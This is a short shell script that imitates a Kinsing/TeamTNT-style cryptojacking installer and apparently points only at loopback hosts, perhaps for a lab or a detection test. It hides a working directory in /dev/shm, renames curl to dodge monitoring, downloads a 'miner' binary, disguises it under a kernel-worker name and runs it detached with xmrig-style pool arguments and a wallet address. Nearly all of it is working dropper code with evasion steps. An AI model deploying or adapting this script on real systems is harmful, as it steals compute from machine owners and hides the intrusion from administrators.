#!/bin/sh
# installer served by the attacker (Kinsing/TeamTNT style, loopback only):
# a renamed copy of curl fetches the "miner", which starts detached under a
# kernel-thread-like name with xmrig-style arguments
D=/dev/shm/.kworker
mkdir -p $D && cd $D || exit 1
cp /usr/bin/curl ./kcurl 2>/dev/null || cp /usr/bin/wget ./kcurl
./kcurl -fsS -o kworkerds http://127.0.0.1:8000/kworkerds
chmod +x kworkerds
nohup setsid ./kworkerds -o 127.0.0.1:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge -p shop1 -k --cpu-max-threads-hint=30 >/dev/null 2>&1 &
echo $! > .pid
